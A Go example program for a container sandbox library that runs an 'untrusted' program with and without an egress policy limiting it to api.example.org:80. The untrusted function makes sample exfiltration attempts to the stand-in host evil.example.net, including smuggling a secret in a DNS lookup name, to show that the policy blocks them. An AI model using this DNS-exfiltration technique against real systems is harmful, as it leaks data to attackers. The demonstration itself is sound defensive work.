// Command egress runs a program that nobody trusts, in a container that can reach exactly one host: api.example.org, port 80.
//
//	go run ./examples/egress
//
// The world is made of network namespaces: a server, somebody who would like to be sent secrets, and a server of names. So nothing of
// the machine is touched, and an ordinary user can run it, as root of a user namespace. Linux 5.14, with nf_tables for bridges.
package main

import (
	"context"
	"errors"
	"fmt"
	"log"
	"net"
	"net/http"
	"net/netip"
	"os"
	"time"

	"github.com/caisson-go/caisson"
	"github.com/caisson-go/caisson/namespaces"
	"github.com/caisson-go/caisson/netns"
	"github.com/caisson-go/caisson/rootfs"
)

func main() {
	log.SetFlags(0)
	if len(os.Args) > 1 && os.Args[1] == "untrusted" {
		untrusted(len(os.Args) > 2)
		return
	}
	if err := start(); err != nil {
		log.Fatal(err)
	}
}

// start becomes root of a user namespace first if need be.
func start() error {
	if os.Geteuid() == 0 {
		return lesson(context.Background())
	}
	self, err := os.Executable()
	if err != nil {
		return err
	}
	cmd := namespaces.Command(self)
	cmd.Set = namespaces.HostSet()
	cmd.Set.User = namespaces.New()
	cmd.Set.Net = namespaces.New()
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
	return cmd.Run()
}

func lesson(ctx context.Context) (err error) {
	w, err := newWorld(ctx)
	if err != nil {
		return err
	}
	defer func() { err = errors.Join(err, w.close(ctx)) }()
	fmt.Println("Without a policy:")
	if err := w.run(ctx, nil); err != nil {
		return err
	}
	fmt.Println("May reach api.example.org:80/tcp and nothing else:")
	only, err := netns.ParseDestination("api.example.org:80/tcp")
	if err != nil {
		return err
	}
	return w.run(ctx, &netns.Egress{Allow: []netns.Destination{only}})
}

// run runs the program in a container.
func (w *world) run(ctx context.Context, policy *netns.Egress) error {
	self, err := os.Executable()
	if err != nil {
		return err
	}
	lan, err := netns.NewBridge(netns.BridgeConfig{Name: "lan", Host: w.host, Subnets: prefixes("10.0.2.0/24"), StateDir: w.state, Journal: unrecorded{}})
	if err != nil {
		return err
	}
	n := &netns.Networks{Endpoints: []netns.Endpoint{{Network: lan, Egress: policy}}, DNS: netns.DNS{Servers: []netip.AddrPort{netip.AddrPortFrom(names, 53)}}}
	args := []string{"untrusted"}
	if policy != nil {
		args = append(args, "guarded")
	}
	c, err := caisson.New(caisson.WithCommand("/untrusted", args...), caisson.WithMount(rootfs.ReadOnlyBindMount(self, "/untrusted")),
		caisson.WithNetwork(n), caisson.WithStdio())
	if err != nil {
		return err
	}
	defer c.Close()
	if _, err := c.Start(ctx); err != nil {
		return err
	}
	if _, err := c.Wait(ctx); err != nil {
		return err
	}
	t, err := lan.Traffic(ctx)
	if err != nil || policy == nil {
		return err
	}
	for _, e := range t {
		fmt.Printf("   the host counted: %v denied packets\n", e.DeniedPackets > 0)
	}
	return nil
}

// untrusted is the program: it tries whatever it can think of. Where it is guarded it does not wait long for what does not answer.
func untrusted(guarded bool) {
	patience := time.Minute
	if guarded {
		patience = 2 * time.Second
	}
	get := func(name, url string, patience time.Duration) {
		client := &http.Client{Timeout: patience}
		r, err := client.Get(url)
		if err != nil {
			fmt.Printf("   %-38s no: %s\n", name, short(err))
			return
		}
		r.Body.Close()
		fmt.Printf("   %-38s %s\n", name, r.Status)
	}
	get("api.example.org", "http://api.example.org/", time.Minute)
	get("api.example.org, another port", "http://api.example.org:8080/", patience)
	get("evil.example.net", "http://evil.example.net/", time.Minute)
	get("evil by its address", "http://"+evil.String()+"/", patience)
	// A name can carry a secret to whoever answers for the domain.
	_, err := net.DefaultResolver.LookupHost(context.Background(), "my-secret.evil.example.net")
	fmt.Printf("   %-38s %s\n", "a secret in a name", answer(err))
	other := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, network, _ string) (net.Conn, error) {
		return (&net.Dialer{Timeout: patience / 2}).DialContext(ctx, network, names.String()+":53")
	}}
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	defer cancel()
	_, err = other.LookupHost(ctx, "my-secret.evil.example.net")
	fmt.Printf("   %-38s %s\n", "the same, asking the server of names", answer(err))
}

func answer(err error) string {
	if err != nil {
		return "no: " + short(err)
	}
	return "answered"
}

// short is the kind of an error.
func short(err error) string {
	var dns *net.DNSError
	var t interface{ Timeout() bool }
	switch {
	case errors.As(err, &dns) && dns.IsNotFound:
		return "no such name"
	case errors.As(err, &t) && t.Timeout(), errors.Is(err, context.DeadlineExceeded):
		return "no answer"
	}
	return err.Error()
}
